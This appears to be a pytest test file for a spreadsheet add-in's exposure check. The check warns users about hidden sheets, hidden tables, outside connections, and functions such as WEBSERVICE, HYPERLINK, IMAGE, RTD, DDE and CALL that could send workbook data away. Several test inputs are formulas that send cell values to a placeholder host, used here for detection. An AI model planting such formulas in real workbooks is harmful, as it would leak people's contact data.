"""What a user is told of a workbook before contacts may enter it."""

from __future__ import annotations

import pytest

from workbook.merge.exposure import (
    OURS,
    SENDERS,
    Exposure,
    Sheet,
    functions,
    looked_at,
    meanings,
    sends,
    sentences,
)


@pytest.mark.parametrize(
    "formula",
    [
        "=GETCONTACTS()",
        '=IFERROR(getcontact(A2,"name"),"")',
        "=_xll.GETCONTACTS ( )",
        "=ORG.GREENAPI.CONTACTS.GETCONTACTSINFO()",
        "=SUM(1)+GetContacts(,,FALSE)",
    ],
)
def test_a_formula_of_ours_is_seen_in_any_spelling(formula: str) -> None:
    assert looked_at("Data", False, [formula]).ours


@pytest.mark.parametrize(
    "formula", ['="=GETCONTACTS()"', "='GETCONTACTS('!A1", "=MYGETCONTACTS()", "=GETCONTACTS2(1)"]
)
def test_what_only_looks_like_a_formula_of_ours_is_none(formula: str) -> None:
    assert not looked_at("Data", False, [formula]).ours


def test_our_formulas_on_a_sheet_that_is_not_shown_are_told() -> None:
    sheets = (looked_at("Form", False, ["=1"]), looked_at("x", True, ["=GETCONTACTS()"]))
    assert list(sentences(Exposure(sheets))) == [
        "Formulas of contacts stand on sheets that are not shown: x."
    ]


def test_a_table_on_a_sheet_that_is_not_shown_is_told() -> None:
    tables = (looked_at("Form", False, [], tables=True), looked_at("x", True, [], tables=True))
    assert list(sentences(Exposure(tables))) == [
        "A table on a sheet that is not shown may be filled, too: x."
    ]


def test_functions_that_can_send_data_away_are_told_with_their_sheets() -> None:
    formulas = ['=_xlfn.WEBSERVICE("https://x.example/"&A1)', '=HYPERLINK("https://x.example")']
    sheets = (looked_at("Form", False, formulas), looked_at("Data", False, ["=A1"]))
    assert list(sentences(Exposure(sheets))) == [
        "HYPERLINK, WEBSERVICE on Form can send what stands in the workbook away."
    ]


def test_connections_to_the_outside_are_counted() -> None:
    links = {"external link": 2, "connection": 0, "query": 2}
    assert list(sentences(Exposure(links=links))) == [
        "The workbook is connected to the outside: 2 external links, 2 queries."
    ]


def test_a_workbook_with_nothing_of_it_needs_no_word() -> None:
    assert list(sentences(Exposure((looked_at("Sheet1", True, ["=1+1"]),)))) == []


@pytest.mark.parametrize(
    "formula",
    [
        '_xlfn.WEBSERVICE("https://x.example/"&Contacts[[#This Row],[id]])',
        'HYPERLINK("https://x.example/"&A2,"open")',
        'IFERROR(_xlfn.IMAGE("https://x.example/"&[@id]),"")',
        "['[x]&_xlfn.WEBSERVICE([@id])&['[y]",
        "out([@id])",
        "address",
        "_xlfn.MAP(Contacts[id],_xleta.WEBSERVICE)",
        "_xlfn.LET(f,_xlfn.WEBSERVICE,f(B2))",
        '_xlfn.WEBSERVICE("https://x.example/"&INDIRECT("B"&ROW()))',
        "WEBSERVICE (B2)",
        "WEBSERVICE(B2",
    ],
)
def test_a_formula_that_can_send_what_it_reads_away_is_seen(formula: str) -> None:
    names = {"Out": ["_xlfn.LAMBDA(x,far(x))"], "far": ["_xlfn.WEBSERVICE(x)"]}
    names["address"] = ['_xlfn.WEBSERVICE("https://x.example"&$A2)']
    assert sends(formula, meanings(names))


@pytest.mark.parametrize(
    "formula",
    ["LEN([@name])", '"WEBSERVICE("&[@id]', 'HYPERLINK("https://x.example")', "'RTD('!A2"],
)
def test_a_formula_that_sends_nothing_of_the_table_is_none(formula: str) -> None:
    assert not sends(formula, {})


def test_a_function_behind_a_title_with_an_apostrophe_is_seen() -> None:
    sheet = looked_at("Data", False, ["=['[x]&WEBSERVICE([@id])&['[y]"])
    assert sheet.senders == {"WEBSERVICE"}


@pytest.mark.parametrize(
    "formula",
    ["='[1]a\"b'!A1&WEBSERVICE(A1)", '=Contacts[a"b]&WEBSERVICE("x")', "=_xleta.webservice"],
)
def test_a_function_behind_a_quotation_mark_in_a_name_is_seen(formula: str) -> None:
    assert looked_at("Data", False, [formula]).senders == {"WEBSERVICE"}


def test_a_defined_name_counts_as_what_it_stands_for() -> None:
    known = meanings({"list": ["GETCONTACTS()"], "Far": ["near"], "near": ["WEBSERVICE(list)"]})
    sheet = looked_at("x", True, ["=far"], known)
    assert sheet.ours
    assert sheet.senders == {"WEBSERVICE"}
    assert not looked_at("x", True, ["=Image[id]"], known).senders, "a table may be called so"


@pytest.mark.parametrize("name", [*OURS, *SENDERS])
@pytest.mark.parametrize("before", ["", "_xlfn.", "_xll.", "_xlfn._xll."])
def test_every_function_that_is_told_is_seen_under_each_name(name: str, before: str) -> None:
    assert functions(f"1+{before}{name.lower()}(A1)") == {name}
    assert functions(f'"{before}{name}"&A1') == frozenset()


@pytest.mark.parametrize(
    ("formula", "called"),
    [
        ("RTD", {"RTD"}),  # handed on, not called
        ("MAP(A1,RTD)", {"RTD"}),
        ("RTD[id]", set()),  # a table
        ("RTD [id]", {"RTD"}),
        ("RTD(CALL(GETCONTACT(1)))", {"RTD", "CALL", "GETCONTACT"}),
        ('"open RTD', {"RTD"}),  # cannot be read
        ("far(1)", {"DDE"}),
        ("FAR", {"DDE"}),
        ("Far[id]", set()),
        ("SUM(A1)", set()),
        ("", set()),
    ],
)
def test_what_a_formula_calls_or_hands_on_is_told(formula: str, called: set[str]) -> None:
    assert functions(formula, {"far": frozenset({"DDE"})}) == called


def test_a_sheet_is_told_with_what_its_formulas_call() -> None:
    formulas = ["=RTD(1)", "=GETCONTACT(1)", "=SUM(1)", "=IMAGE(A1)"]
    assert looked_at("x", True, formulas, tables=True) == Sheet(
        "x", True, True, frozenset({"RTD", "IMAGE"}), True
    )
    assert looked_at("y", False, ["=RTD(1)"]) == Sheet("y", False, False, frozenset({"RTD"}))
    assert looked_at("z", False, []) == Sheet("z", False, False)


@pytest.mark.parametrize(
    ("names", "meant"),
    [
        ({}, {}),
        ({"x": ["A1"], "y": ["x"]}, {}),
        ({"A": ["B"], "b": ["RTD(1)"]}, {"a": {"RTD"}, "b": {"RTD"}}),
        ({"a": ["b+RTD(1)"], "b": ["A+CALL(1)"]}, {"a": {"RTD", "CALL"}, "b": {"RTD", "CALL"}}),
        ({"a": ["A"], "b": ["RTD(b)"]}, {"b": {"RTD"}}),
        ({"a": ["1", "RTD(1)"], "A": ["DDE(1)"]}, {"a": {"RTD", "DDE"}}),
        ({"d": ["c"], "c": ["b"], "b": ["a"], "a": ["DDE(1)"]}, {each: {"DDE"} for each in "abcd"}),
        ({"a": ["b"], "b": ["c"], "c": ["a+b+RTD(1)"]}, {each: {"RTD"} for each in "abc"}),
    ],
)
def test_names_stand_for_what_their_texts_call_by_other_names_too(
    names: dict[str, list[str]], meant: dict[str, set[str]]
) -> None:
    assert meanings(names) == meant


@pytest.mark.parametrize(
    ("formula", "is_seen"),
    [
        ('hyperlink("https://x.example")', False),
        ('_xlfn.WEBSERVICE("https://x.example" & "/a")', False),
        ('HYPERLINK("https://x.example")&HYPERLINK("https://x.example")', True),
        ('HYPERLINK("https://x.example",1+2)', False),
        ('HYPERLINK("https://x.example",1:2)', True),
        ('HYPERLINK("https://x.example",A:B)', True),
        ('HYPERLINK("https://x.example",#REF!)', False),
        ("GETCONTACT(A2)", False),
        ('"open&RTD(A1)', True),
    ],
)
def test_a_formula_sends_what_it_reads_unless_it_reads_nothing(formula: str, is_seen: bool) -> None:
    assert sends(formula, {}) is is_seen


def test_what_is_shown_is_not_told_as_hidden() -> None:
    shown = Exposure((Sheet("a", False, True, tables=True), Sheet("b", True, False)))
    assert (shown.hidden, shown.hidden_tables) == ([], [])
    assert [*sentences(shown)] == []


@pytest.mark.parametrize(
    ("count", "told"),
    [(1, "1 query"), (2, "2 queries"), (1_000, "1,000 queries"), (0, "")],
)
def test_connections_are_counted_in_words(count: int, told: str) -> None:
    said = [f"The workbook is connected to the outside: {told}."] if told else []
    assert [*sentences(Exposure(links={"query": count}))] == said


@pytest.mark.parametrize(
    ("count", "told"),
    [(5, "s0, s1, s2, s3, s4."), (6, "s0, s1, s2, s3, s4 and 1 more."),
     (1_005, "s0, s1, s2, s3, s4 and 1,000 more.")],
)  # fmt: skip
def test_of_many_sheets_the_first_are_named(count: int, told: str) -> None:
    sheets = tuple(Sheet(f"s{at}", True, True) for at in range(count))
    assert next(sentences(Exposure(sheets))).endswith(f"not shown: {told}")


def test_what_sends_is_told_once_in_order_with_all_its_sheets() -> None:
    told = [("a", {"RTD", "CALL"}), ("b", set()), ("c", {"RTD", "DDE"})]
    sheets = tuple(Sheet(name, False, False, frozenset(senders)) for name, senders in told)
    assert [*sentences(Exposure(sheets))] == [
        "CALL, DDE, RTD on a, c can send what stands in the workbook away."
    ]
